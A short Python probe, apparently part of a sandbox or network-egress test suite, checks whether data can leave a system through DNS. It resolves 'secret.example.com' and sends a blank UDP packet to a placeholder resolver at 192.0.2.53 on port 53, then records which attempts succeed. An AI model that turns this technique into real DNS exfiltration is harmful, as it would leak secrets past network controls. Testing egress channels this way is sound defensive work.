"""Smuggle data out in names: by the resolver, and by a DNS packet of one's own to the outside."""

import socket

from prologue import achieved, attempt


def main(target: dict) -> dict:
    attempt("getaddrinfo", lambda: bool(socket.getaddrinfo("secret.example.com", 80)))

    def packet():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(b"\0" * 12, ("192.0.2.53", 53))

    attempt("packet", packet)
    return {"achieved": achieved}
